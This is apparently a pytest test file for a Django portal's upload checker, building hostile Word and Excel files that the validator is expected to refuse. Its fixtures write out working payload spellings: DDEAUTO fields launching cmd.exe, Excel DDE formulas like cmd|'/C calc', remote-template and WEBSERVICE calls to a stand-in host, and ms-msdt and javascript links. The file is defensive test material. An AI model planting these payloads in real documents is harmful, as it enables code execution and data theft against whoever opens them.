"""Files that look like an application's and do something when an officer opens them."""

import random

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile

from huadu_portal.sandbox.jobs.parts import OLE
from projects import files
from tests.conftest import PDF
from tests.projects.conftest import RELATIONSHIPS, office_file, relationships
from tests.projects.test_files import picture

LIMIT = 10 * 1024 * 1024
# So many that the string lies across two pieces; not to be packed into nothing.
FILLING = random.Random(1).randbytes(256 * 1024 - 100)
EXE = b"MZ\x90\0\x03\0\0\0" + b"\0" * 100
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MS = "http://schemas.microsoft.com/office/2006/relationships"
EXCEL_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def check(content, name):
    return files.check_file(ContentFile(content, name=name), limit=LIMIT)


def refused(content, name):
    """The sentence that the sender reads."""
    with pytest.raises(ValidationError) as refusal:
        check(content, name)
    return " ".join(refusal.value.messages)


def template(**said):
    """A relationship to a template elsewhere; `said` spells its attributes anew."""
    plain = {
        "Type": f"{RELATIONSHIPS}/attachedTemplate",
        "Target": "http://192.0.2.1/x.dotm",
        "TargetMode": "External",
    }
    return "".join(f' {name}="{value}"' for name, value in (plain | said).items())


def rels(relationship):
    return f"<Relationships><Relationship Id='r'{relationship}/></Relationships>"


def in_characters(text):
    return "".join(f"&#{ord(sign)};" for sign in text)


REMOTE_TEMPLATES = {
    "plain": rels(template()),
    "utf-16": '<?xml version="1.0" encoding="UTF-16"?>' + rels(template()),
    "prefix": '<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/'
    f'relationships"><p:Relationship Id="r"{template()}/></p:Relationships>',
    "characters": rels(template(TargetMode=in_characters("External"))),
    "characters in the type": rels(
        template(Type=f"{RELATIONSHIPS}/{in_characters('attachedTemplate')}")
    ),
    "single quotes": rels(template()).replace('"', "'"),
    "spaces": rels(
        template(TargetMode="  External\n", Type=f" {RELATIONSHIPS}/attachedTemplate ")
    ),
    "lines": rels(template().replace("=", "\n=\n")),
    "lower case": rels(template(TargetMode="external")),
    "case of the type": rels(template(Type=f"{RELATIONSHIPS}/ATTACHEDTEMPLATE")),
    "no mode": rels(template(TargetMode="Internal")),
    "strict": rels(
        template(
            Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate"
        )
    ),
    "of an issuer unknown": rels(template(Type="http://example.com/hyperlink")),
}


class TestDrawnIn:
    @pytest.mark.parametrize("spelling", REMOTE_TEMPLATES)
    def test_a_template_from_elsewhere_however_it_is_spelled(self, spelling):
        text = REMOTE_TEMPLATES[spelling]
        content = text.encode("utf-16" if spelling == "utf-16" else "utf-8")

        sentence = refused(office_file({"word/_rels/settings.xml.rels": content}), "x.docx")

        assert sentence.endswith(str(files.SENTENCES["fetches"]))

    @pytest.mark.parametrize("name", ["word/_RELS/settings.XML.RELS", "word/links.xml"])
    def test_and_wherever_it_stands(self, name):
        assert refused(office_file({name: REMOTE_TEMPLATES["plain"]}), "x.docx")

    @pytest.mark.parametrize(
        "kind", ["aFChunk", "oleObject", "frame", "subDocument", "externalLinkPath", "image"]
    )
    def test_other_parts_from_elsewhere(self, kind):
        link = rels(template(Type=f"{RELATIONSHIPS}/{kind}"))

        assert refused(office_file({"word/_rels/document.xml.rels": link}), "x.docx")

    @pytest.mark.parametrize(
        "target", ["\\\\192.0.2.1\\x\\y.png", "//192.0.2.1/y.png", "file:///C:/y.png"]
    )
    def test_a_picture_of_a_share(self, target):
        link = rels(
            template(Type=f"{RELATIONSHIPS}/image", Target=target, TargetMode="Internal")
        )

        assert refused(office_file({"word/_rels/document.xml.rels": link}), "x.docx")

    def test_a_chunk_in_another_format(self):
        text = f'<w:document {WORD}><w:body><w:altChunk r="r1"/></w:body></w:document>'

        assert refused(office_file(text=text), "x.docx")
        link = relationships(f'Type="{RELATIONSHIPS}/aFChunk"')
        assert refused(office_file({"word/_rels/document.xml.rels": link}), "x.docx")

    def test_a_picture_of_vml(self):
        vml = '<xml xmlns:v="urn:v"><v:imagedata src="http://192.0.2.1/x.png"/></xml>'

        assert refused(office_file({"word/drawing1.vml": vml}), "x.docx")

    @pytest.mark.parametrize(
        "href", ["javascript:alert(1)", "file:///C:/x.exe", "\\\\192.0.2.1\\x.exe"]
    )
    @pytest.mark.parametrize("name", ["v:shape href", "v:group href", "a xlink:href"])
    def test_a_click_on_a_shape(self, name, href):
        vml = f'<xml xmlns:v="urn:v" xmlns:xlink="urn:x"><{name}="{href}"/></xml>'

        sentence = refused(office_file({"word/drawing1.vml": vml}), "x.docx")

        assert sentence.endswith(str(files.SENTENCES["links"]))

    @pytest.mark.parametrize("kind", ["externalLink", "connections", "queryTable"])
    def test_a_table_that_asks_elsewhere(self, kind):
        name = f"xl/{kind}1.xml"
        content = office_file(
            {name: "<x/>"},
            main="xl/workbook.xml",
            types={name: f"{EXCEL_TYPE}.{kind}+xml"},
        )

        assert refused(content, "x.xlsx")


class TestHeldInside:
    def test_an_ole_object(self):
        content = office_file(
            {"word/embeddings/oleObject1.bin": OLE + b"\0" * 504 + EXE},
            types={
                "word/embeddings/oleObject1.bin": "application/vnd.openxmlformats-"
                "officedocument.oleObject"
            },
        )

        assert refused(content, "x.docx").endswith(str(files.SENTENCES["objects"]))

    @pytest.mark.parametrize(
        "said", ["image/png", "image/x-emf", f"{EXCEL_TYPE}.printerSettings"]
    )
    @pytest.mark.parametrize("bytes_", [EXE, OLE, b"PK\x03\x04", b"#!/bin/sh", b"<html>", PDF])
    def test_something_else_that_calls_itself_a_picture(self, bytes_, said):
        content = office_file({"word/media/x.png": bytes_}, types={"word/media/x.png": said})

        assert refused(content, "x.docx")

    def test_a_picture_of_another_kind_than_it_says(self):
        assert refused(office_file({"word/media/x.png": picture("JPEG")}), "x.docx")

    @pytest.mark.parametrize(
        "said",
        [
            "application/vnd.ms-office.vbaProject",
            "application/octet-stream",
            "application/vnd.openxmlformats-officedocument.obfuscatedFont",
            "image/png",
        ],
    )
    def test_a_renamed_vba_project(self, said):
        name = "word/holiday.bin"
        content = office_file({name: OLE + b"\0" * 504}, types={name: said})

        assert refused(content, "x.docx")

    @pytest.mark.parametrize(
        "kind", ["vbaProject", "wordVbaData", "keyMapCustomizations", "activeXControlBinary"]
    )
    def test_a_relationship_to_programs(self, kind):
        link = relationships(f'Type="{MS}/{kind}"')

        sentence = refused(office_file({"word/_rels/document.xml.rels": link}), "x.docx")

        assert sentence.endswith(str(files.SENTENCES["macros"]))

    def test_a_part_without_a_type(self):
        assert refused(office_file({"word/x.dat": b"x"}), "x.docx")

    def test_a_file_that_calls_itself_two_kinds(self):
        more = {"word/other.xml": f"{EXCEL_TYPE}.sheet.main+xml"}

        assert refused(office_file({"word/other.xml": "<x/>"}, types=more), "x.docx")

    def test_a_hostile_table_behind_a_chart(self):
        bad = office_file({"xl/media/x.png": EXE}, main="xl/workbook.xml")

        assert refused(office_file({"word/embeddings/x.xlsx": bad}), "x.docx")

    def test_a_table_within_a_table_behind_a_chart(self):
        inner = office_file(main="xl/workbook.xml")
        outer = office_file({"xl/embeddings/x.xlsx": inner}, main="xl/workbook.xml")

        assert refused(office_file({"word/embeddings/x.xlsx": outer}), "x.docx")


def field(*runs, nested=""):
    spread = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return (
        f'<w:document {WORD}><w:p><w:fldChar w:fldCharType="begin"/>{nested}{spread}'
        '<w:fldChar w:fldCharType="separate"/><w:t>x</w:t>'
        '<w:fldChar w:fldCharType="end"/></w:p></w:document>'
    )


QUOTE = field("QUOTE 68 68 69").partition("<w:p>")[2].partition("</w:p>")[0]


class TestFields:
    @pytest.mark.parametrize(
        "text",
        [
            field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
            field("DDE", "AUTO c:\\\\cmd.exe"),
            field(" d", "d", "e", " x"),
            field("DD&#69; x"),
            field("D\u200bDE x"),
            field(" c:\\\\cmd.exe", nested=QUOTE),
            field('LINK Excel.Sheet.8 "http://192.0.2.1/x.xls"'),
            field('INCLUDETEXT "\\\\\\\\192.0.2.1\\\\x"'),
            field('INCLUDEPICTURE "\\\\\\\\192.0.2.1\\\\x.png"'),
            f'<w:document {WORD}><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:document>',
            f"<w:document {WORD}><w:instrText>DDE x</w:instrText></w:document>",
            field("DDE x").replace("instrText", "delInstrText"),
            field("DDE x").replace("w:", "z:").replace("xmlns:z", "xmlns:z"),
            field("DDE x").replace("instrText", "t"),
            field("D", "DE x").replace("instrText", "t", 2),
            field("DDE x").replace("instrText", "delText"),
            field("DDE x").replace("instrText>DDE x", "instrText>DDE x<f></f>"),
            field('HYPERLINK "file://192.0.2.1/x.exe"'),
            field('HYPERLINK "\\\\192.0.2.1\\x"'),
            field('HYPERLINK "java', 'script:x" \\o "page"'),
            field('HYPERLINK \\o "page" "file://192.0.2.1/x"'),
        ],
    )
    def test_that_start_a_program_or_read_a_file(self, text):
        assert refused(office_file(text=text), "x.docx")

    def test_in_a_header_too(self):
        assert refused(office_file({"word/header1.xml": field("DDE x")}), "x.docx")

    @pytest.mark.parametrize(
        "text",
        [
            field("PAGE"),
            field(' TOC \\o "1-3" \\h '),
            field('HYPERLINK "http://www.huadu.gov.cn/"'),
            field("= ", "1 + 2"),
            field('INCLUDEPICTURE "https://mmbiz.qpic.cn/x.jpg" \\* MERGEFORMATINET'),
            field("REF ddeauto"),
            field('HYPERLINK "https://huadu.gov.cn/" \\o "note: see there"'),
            field('HYPERLINK \\l "_Toc1" \\h'),
            field('IF 1 = 2 "DDEAUTO" "x"'),
        ],
    )
    def test_of_other_kinds_are_taken(self, text):
        assert check(office_file(text=text), "x.docx")


def sheet(formula):
    return office_file(
        {"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{formula}</f></c></worksheet>"},
        main="xl/workbook.xml",
    )


class TestFormulas:
    @pytest.mark.parametrize(
        "formula",
        [
            "cmd|'/C calc'!A0",
            "cmd |'/C calc' !A0",
            "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
            "1+cmd|x!A0",
            '_xlfn.WEBSERVICE("http://192.0.2.1/"&amp;A1)',
            'RTD("prog",,"x")',
            '_xlfn.IMAGE("http://192.0.2.1/x")',
            # In single quotes a double one begins no text, and two single ones are one.
            'cmd|\'/c calc " \'!A0&amp;"x"',
            "cmd|'/c ''calc'' '!A0",
            '\'a" \'!B1&amp;WEBSERVICE("http://192.0.2.1"&amp;"\'")',
            'HYPERLINK("file://192.0.2.1/x","page")',
            'hyperlink( "\\\\192.0.2.1\\x")',
        ],
    )
    def test_that_call_out_of_the_table(self, formula):
        assert refused(sheet(formula), "x.xlsx")

    @pytest.mark.parametrize(
        "formula",
        [
            "SUM(A1:A9)*'投资 表'!B2",
            'IF(A1="a|b!","cmd|x!y",2)',
            'HYPERLINK("http://www.huadu.gov.cn/","x")',
            "RECALL(A1)",
        ],
    )
    def test_of_other_kinds_are_taken(self, formula):
        assert check(sheet(formula), "x.xlsx")

    @pytest.mark.parametrize("name", ["calculatedColumnFormula", "totalsRowFormula"])
    def test_of_the_columns_of_a_table_too(self, name):
        text = f'<table><{name}>WEBSERVICE("http://192.0.2.1")</{name}></table>'

        file = office_file({"xl/worksheets/sheet1.xml": text}, main="xl/workbook.xml")

        assert refused(file, "x.xlsx")

    def test_a_link_by_dde(self):
        link = "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"

        assert refused(office_file({"xl/e.xml": link}, main="xl/workbook.xml"), "x.xlsx")


class TestLinks:
    def docx(self, target):
        link = rels(template(Type=f"{RELATIONSHIPS}/hyperlink", Target=target))
        return office_file({"word/_rels/document.xml.rels": link})

    @pytest.mark.parametrize(
        "target",
        ["http://www.huadu.gov.cn/", "mailto:a@b.cn", "附件1.docx", "#_Toc1", "HTTPS://x"],
    )
    def test_to_pages_are_taken(self, target):
        assert check(self.docx(target), "x.docx")

    @pytest.mark.parametrize(
        "target",
        [
            "javascript:alert(1)",
            "java&#10;script:alert(1)",
            "file:///C:/Windows/System32/calc.exe",
            "\\\\192.0.2.1\\x.exe",
            "ms-msdt:/id",
            "search-ms:query=x",
        ],
    )
    def test_to_programs_are_not(self, target):
        assert refused(self.docx(target), "x.docx")
